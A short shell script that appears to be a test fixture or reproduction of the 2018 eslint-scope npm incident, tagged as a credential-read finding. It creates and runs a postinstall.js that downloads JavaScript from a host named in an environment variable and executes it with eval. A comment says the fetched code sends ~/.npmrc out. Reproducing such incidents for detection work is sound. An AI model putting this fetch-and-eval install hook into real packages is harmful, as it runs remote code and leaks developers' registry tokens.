# incident: eslint-scope (2018): postinstall fetches code, evaluates it, and that sends ~/.npmrc
# finding: credential-read
# needs: node
cat > postinstall.js <<'JS'
const http = require('http');
http.get(`http://${process.env.DROP}/raw/npmrc.js`, r => { let s = ''; r.on('data', c => s += c); r.on('end', () => eval(s)); });
JS
node postinstall.js
